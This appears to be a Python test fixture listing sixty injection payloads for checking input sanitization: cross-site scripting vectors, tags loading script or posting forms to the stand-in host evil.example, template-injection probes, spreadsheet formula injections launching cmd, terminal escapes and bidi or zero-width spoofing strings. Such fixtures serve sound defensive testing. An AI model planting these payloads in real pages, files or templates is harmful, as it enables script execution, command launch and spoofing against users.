"""Sixty texts that want to be more than text: markup, templates, formulas, escapes, direction.

``evil.example`` is where any of them would call if it came to life.
"""

from __future__ import annotations

_SCRIPT = "window.top.document.title='PWNED'"

MARKUP = (
    f"<script>{_SCRIPT}</script>",
    f"</script><script>{_SCRIPT}</script>",
    f"</style><script>{_SCRIPT}</script>",
    f"</title><script>{_SCRIPT}</script>",
    f"--><script>{_SCRIPT}</script><!--",
    f"]]><script>{_SCRIPT}</script><![CDATA[",
    f'"><img src=x onerror="{_SCRIPT}">',
    f"'><img src=x onerror={_SCRIPT}>",
    '<img src="http://evil.example/pixel.png">',
    '<IMG SRC="&#14;  javascript:alert(1);">',
    "<svg/onload=alert(1)>",
    '<svg><script href="http://evil.example/x.js"/></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="http://evil.example/">free money</a>',
    '<iframe srcdoc="<script>parent.document.title=1</script>"></iframe>',
    '<iframe src="http://evil.example/"></iframe>',
    '<object data="http://evil.example/x.swf"></object>',
    '<embed src="http://evil.example/x">',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base href="http://evil.example/">',
    '<form action="http://evil.example/"><input name=p></form>',
    '<body onload="alert(1)">',
    '<div style="background:url(http://evil.example/bg)">',
    "<style>@import 'http://evil.example/x.css';</style>",
    '<video><source onerror="alert(1)"></video>',
    '<details open ontoggle="alert(1)">',
    "<textarea><script>alert(1)</script></textarea>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)' '",
    "` onerror=alert(1) `",
    "javascript:alert(document.domain)",
    "jav\tascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
)
TEMPLATE = (
    "{{7*7}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in (1,2) %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{# comment #}{% raw %}{{ x }}",
    "%(name)s {0.__class__} $HOME ${oc.env:HOME}",
)
SPREADSHEET = (
    '=HYPERLINK("http://evil.example/","click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+9)*cmd|" /C calc"!A0',
)
TERMINAL = (
    "\x1b[2J\x1b[31mred\x1b[0m",
    "\x1b]0;owned\x07 \x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31m \x00 \x08\x08\x7f",
    "[bold red]rich[/bold red] [link=http://evil.example]x[/link]",
)
DIRECTION = (
    "\u202egpj.exe \u2066isolated\u2069 \u200fright",
    "pay\u200bpal\u200d.com\ufeff \u00adsoft \u2028 line \U000e0041tag",
    "Z" + "\u0301" * 10_000 + "algo",
    "W" * 30_000,
)

PAYLOADS = MARKUP + TEMPLATE + SPREADSHEET + TERMINAL + DIRECTION
